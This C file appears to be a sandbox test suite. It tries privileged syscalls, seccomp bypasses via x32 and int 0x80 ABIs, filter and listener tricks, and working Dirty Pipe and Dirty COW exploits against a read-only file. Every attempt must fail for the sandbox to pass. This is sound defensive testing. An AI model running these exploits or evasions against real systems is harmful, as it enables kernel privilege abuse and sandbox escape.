/* System calls that only administrators need, and ways around the filter. */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/personality.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/timex.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef SYS_io_uring_setup
#define SYS_io_uring_setup 425
#define SYS_io_uring_enter 426
#define SYS_io_uring_register 427
#endif

/* Arguments are such that success would do no harm. */

ATTACK(io_uring_setup) {
  char parameters[256] = {0};
  must_fail("io_uring_setup", syscall(SYS_io_uring_setup, 4, parameters));
}

ATTACK(io_uring_enter) { must_fail("io_uring_enter", syscall(SYS_io_uring_enter, 0, 1, 0, 0, NULL, 0)); }

ATTACK(io_uring_register) { must_fail("io_uring_register", syscall(SYS_io_uring_register, -1, 1, NULL, 0)); }

ATTACK(bpf_map) {
  char attributes[128] = {1, 0, 0, 0, 4, 0, 0, 0, 4, 0, 0, 0, 1};
  must_fail("bpf", syscall(SYS_bpf, 0, attributes, sizeof attributes));
}

ATTACK(bpf_program) {
  char attributes[128] = {1};
  must_fail("bpf", syscall(SYS_bpf, 5, attributes, sizeof attributes));
}

ATTACK(perf_event) {
  char attributes[128] = {1, 0, 0, 0, 112};
  must_fail("perf_event_open", syscall(SYS_perf_event_open, attributes, 0, -1, -1, 0));
}

ATTACK(user_faults) {
  must_fail("userfaultfd", syscall(SYS_userfaultfd, O_CLOEXEC));
  must_fail("userfaultfd", syscall(SYS_userfaultfd, O_CLOEXEC | 1));
  must_fail("/dev/userfaultfd", open("/dev/userfaultfd", O_RDWR | O_CLOEXEC));
}

ATTACK(kexec_load) { must_fail("kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0)); }

ATTACK(kexec_file_load) { must_fail("kexec_file_load", syscall(SYS_kexec_file_load, -1, -1, 0, "", 0)); }

ATTACK(init_module) { must_fail("init_module", syscall(SYS_init_module, "", 0, "")); }

ATTACK(finit_module) { must_fail("finit_module", syscall(SYS_finit_module, 0, "", 0)); }

ATTACK(delete_module) { must_fail("delete_module", syscall(SYS_delete_module, "sallyport_no_such", O_NONBLOCK)); }

ATTACK(handle_of_root) {
  struct {
    struct file_handle header;
    unsigned char bytes[128];
  } handle;
  int mount_id = 0;
  memset(&handle, 0, sizeof handle);
  handle.header.handle_bytes = sizeof handle.bytes;
  /* The handle alone is of no use; opening it would leave the mount behind (the shocker attack). */
  if (syscall(SYS_name_to_handle_at, AT_FDCWD, given("X_WS"), &handle, &mount_id, 0) != 0) refused("name_to_handle_at");
  int folder = open(given("X_WS"), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  must_fail("open_by_handle_at", syscall(SYS_open_by_handle_at, folder, &handle, O_RDONLY));
}

ATTACK(handle_of_inode_two) {
  struct {
    struct file_handle header;
    unsigned char bytes[8];
  } handle = {.header = {.handle_bytes = 8, .handle_type = 1}, .bytes = {2}};
  int folder = open("/usr", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  must_fail("open_by_handle_at", syscall(SYS_open_by_handle_at, folder, &handle, O_RDONLY));
}

ATTACK(odd_personality) {
  must_fail("no random addresses", personality(ADDR_NO_RANDOMIZE));
  must_fail("read implies exec", personality(READ_IMPLIES_EXEC));
  must_fail("map page zero", personality(MMAP_PAGE_ZERO));
  must_fail("upper bits", syscall(SYS_personality, 0xdeadbeef00000000UL | ADDR_NO_RANDOMIZE));
}

ATTACK(quota) { must_fail("quotactl", syscall(SYS_quotactl, 0x80000100, "/dev/vda", 0, NULL)); }

ATTACK(accounting) { must_fail("acct", acct("/tmp/accounting")); }

ATTACK(swap_on) { must_fail("swapon", syscall(SYS_swapon, "/tmp/no-such-swap", 0)); }

ATTACK(swap_off) { must_fail("swapoff", syscall(SYS_swapoff, "/tmp/no-such-swap")); }

/* Only switches Ctrl-Alt-Del to a signal. */
ATTACK(reboot) { must_fail("reboot", syscall(SYS_reboot, 0xfee1dead, 672274793, 0, NULL)); }

ATTACK(set_time_of_day) {
  struct timeval now;
  gettimeofday(&now, NULL);
  must_fail("settimeofday", syscall(SYS_settimeofday, &now, NULL));
}

ATTACK(set_clock) {
  struct timespec now;
  clock_gettime(CLOCK_REALTIME, &now);
  must_fail("clock_settime", clock_settime(CLOCK_REALTIME, &now));
}

ATTACK(adjust_clock) {
  struct timex nothing = {.modes = ADJ_TICK, .tick = 10000};
  must_fail("adjtimex", adjtimex(&nothing));
  must_fail("clock_adjtime", clock_adjtime(CLOCK_REALTIME, &nothing));
}

ATTACK(set_host_name) { must_fail("sethostname", sethostname("escaped", 7)); }

ATTACK(set_domain_name) { must_fail("setdomainname", setdomainname("escaped", 7)); }

ATTACK(watch_whole_file_systems) {
  must_fail("fanotify_init", syscall(SYS_fanotify_init, 0, O_RDONLY));
  must_fail("fanotify_init", syscall(SYS_fanotify_init, 0x200 /* REPORT_FID */, O_RDONLY));
}

ATTACK(kernel_log) {
  char bytes[256];
  must_fail("syslog", syscall(SYS_syslog, 3, bytes, sizeof bytes));
}

ATTACK(hang_up) { must_fail("vhangup", syscall(SYS_vhangup)); }

ATTACK(add_key) { must_fail("add_key", syscall(SYS_add_key, "user", "sallyport", "x", 1, -4)); }

ATTACK(request_key) { must_fail("request_key", syscall(SYS_request_key, "user", "sallyport", NULL, -3)); }

ATTACK(session_keyring) {
  must_fail("keyctl get", syscall(SYS_keyctl, 0, -3, 1));
  must_fail("keyctl user keyring", syscall(SYS_keyctl, 0, -4, 1));
  must_fail("keyctl join", syscall(SYS_keyctl, 1, NULL));
}

ATTACK(persistent_keyring) { must_fail("keyctl persistent", syscall(SYS_keyctl, 22, 0, -2)); }

ATTACK(pages_of_host) {
  must_fail("migrate_pages", syscall(SYS_migrate_pages, (pid_t)given_number("X_PID"), 0, NULL, NULL));
  must_fail("move_pages", syscall(SYS_move_pages, (pid_t)given_number("X_PID"), 0UL, NULL, NULL, NULL, 0));
}

#ifdef __x86_64__
ATTACK(port_level) { must_fail("iopl", syscall(SYS_iopl, 3)); }

ATTACK(port_permission) { must_fail("ioperm", syscall(SYS_ioperm, 0x80, 1, 1)); }

/* The other ABIs reach the same calls under other numbers. */
ATTACK(x32_mount) {
  must_fail("x32 mount", syscall(0x40000000 | SYS_mount, "none", given("X_WS"), "tmpfs", 0, NULL));
  must_fail("x32 unshare", syscall(0x40000000 | SYS_unshare, 0x10000000));
  must_fail("x32 ptrace", syscall(0x40000000 | 521, 16, 1, 0, 0));
  must_fail("x32 keyctl", syscall(0x40000000 | SYS_keyctl, 0, -3, 1));
}

static long int80(long number, long first, long second) {
  long result;
  __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(first), "c"(second), "d"(0), "S"(0), "D"(0) : "memory");
  return result;
}

static void must_fail_i386(const char *what, long result) {
  if (result >= 0) escaped("%s gave %ld", what, result);
  errno = (int)-result;
  refused(what);
}

ATTACK(i386_unshare) { must_fail_i386("unshare", int80(310, 0x10000000, 0)); }

ATTACK(i386_ptrace) { must_fail_i386("ptrace", int80(26, 0, 0)); }

ATTACK(i386_chroot) {
  /* Below 4 GiB, where the old ABI can see it. */
  char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
  if (low == MAP_FAILED) broken("mmap");
  strcpy(low, "/tmp");
  must_fail_i386("chroot", int80(61, (long)low, 0));
}
#endif

/* ---- the filter itself */

static struct sock_filter ALLOW_ALL[] = {BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW)};
static struct sock_filter NOTIFY_ALL_ATTACKS[] = {
    BPF_STMT(BPF_LD | BPF_W | BPF_ABS, 0),
    BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_unshare, 0, 1),
    BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
    BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
};

static long install(struct sock_filter *instructions, unsigned short count, unsigned flags) {
  struct sock_fprog program = {.len = count, .filter = instructions};
  return syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, flags, &program);
}

ATTACK(switch_filter_off) {
  must_fail("PR_SET_SECCOMP disabled", prctl(PR_SET_SECCOMP, SECCOMP_MODE_DISABLED, NULL, 0, 0));
  must_fail("seccomp", syscall(SYS_seccomp, 77, 0, NULL));
  if (prctl(PR_GET_SECCOMP, 0, 0, 0, 0) != SECCOMP_MODE_FILTER) escaped("no filter is in force");
}

ATTACK(allow_everything) {
  if (install(ALLOW_ALL, 1, 0) != 0) refused("a filter of our own");
  must_fail("unshare", syscall(SYS_unshare, 0x10000000));
}

ATTACK(allow_everything_in_all_threads) {
  if (install(ALLOW_ALL, 1, SECCOMP_FILTER_FLAG_TSYNC) != 0) refused("a filter of our own");
  must_fail("unshare", syscall(SYS_unshare, 0x10000000));
}

/* A listener of our own could answer "go on" in place of the sandbox's. */
ATTACK(listen_ourselves) {
  long listener = install(NOTIFY_ALL_ATTACKS, 4, SECCOMP_FILTER_FLAG_NEW_LISTENER);
  must_fail("a listener of our own", listener);
}

/* Of two filters that want to notify the younger one wins; nobody listens to it, and the call must fail all the same. */
ATTACK(shadow_the_listener) {
  if (install(NOTIFY_ALL_ATTACKS, 4, 0) != 0) refused("a filter of our own");
  must_fail("unshare", syscall(SYS_unshare, 0x10000000));
}

static void *unshare_in_thread(void *data) {
  (void)data;
  must_fail("unshare", syscall(SYS_unshare, 0x10000000));
  return NULL;
}

ATTACK(attack_from_a_thread) {
  pthread_t thread;
  if (pthread_create(&thread, NULL, unshare_in_thread, NULL) != 0) broken("thread");
  pthread_join(thread, NULL);
}

/* The one who is caught dies; the others must die with it. */
ATTACK(sacrifice_a_child) {
  pid_t child = fork();
  if (child == 0) {
    syscall(SYS_unshare, 0x10000000);
    _exit(0);
  }
  setsid();
  sleep_ms(1500);
  escaped("the sandbox goes on after a critical attempt");
}

ATTACK(repeat_small_offences) {
  for (int i = 0; i < 200; i++) {
    if (sethostname("escaped", 7) == 0) escaped("sethostname");
    refused("sethostname");
  }
  escaped("two hundred refused calls went on");
}

ATTACK(loosen_prctl) {
  must_fail("PR_SET_MM", prctl(PR_SET_MM, 1, 0x10000, 0, 0));
  /* Only against ourselves: 2 is root's alone to set. */
  must_fail("PR_SET_DUMPABLE 2", prctl(PR_SET_DUMPABLE, 2, 0, 0, 0));
}

/* ---- read-only files through the kernel's back doors */

/* CVE-2022-0847: a page of a read-only file is made a pipe's, then the pipe is written. */
ATTACK(dirty_pipe) {
  int ends[2], file = open(joined(given("X_RO"), "/kept.txt"), O_RDONLY | O_CLOEXEC);
  static char page[4096];
  if (file < 0 || pipe(ends) != 0) broken("open");
  int room = fcntl(ends[1], F_GETPIPE_SZ);
  for (int filled = 0; filled < room; filled += 4096) {
    if (write(ends[1], page, sizeof page) < 0) broken("fill");
  }
  for (int drained = 0; drained < room; drained += 4096) {
    if (read(ends[0], page, sizeof page) < 0) broken("drain");
  }
  loff_t at = 0;
  if (splice(file, &at, ends[1], NULL, 1, 0) != 1) broken("splice");
  if (write(ends[1], "DIRTYPIPE", 9) != 9) broken("write");
  char now[64] = {0};
  if (pread(file, now, sizeof now - 1, 0) > 0 && strstr(now, "DIRTYPIPE") != NULL) escaped("a read-only file was changed");
  refused_by("dirty pipe", "NOTHING");
}

static void *drop_pages(void *map) {
  for (int64_t end = clock_ms() + 400; clock_ms() < end;) madvise(map, 4096, MADV_DONTNEED);
  return NULL;
}

/* CVE-2016-5195. */
ATTACK(dirty_cow) {
  int file = open(joined(given("X_RO"), "/kept.txt"), O_RDONLY | O_CLOEXEC);
  int memory = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
  pthread_t thread;
  if (file < 0 || memory < 0) broken("open");
  char *map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
  if (map == MAP_FAILED || pthread_create(&thread, NULL, drop_pages, map) != 0) broken("set up");
  for (int64_t end = clock_ms() + 400; clock_ms() < end;) {
    if (pwrite(memory, "DIRTYCOW", 8, (off_t)(uintptr_t)map) < 0) break;
  }
  pthread_join(thread, NULL);
  char now[64] = {0};
  if (pread(file, now, sizeof now - 1, 0) > 0 && strstr(now, "DIRTYCOW") != NULL) escaped("a read-only file was changed");
  refused_by("dirty cow", "NOTHING");
}
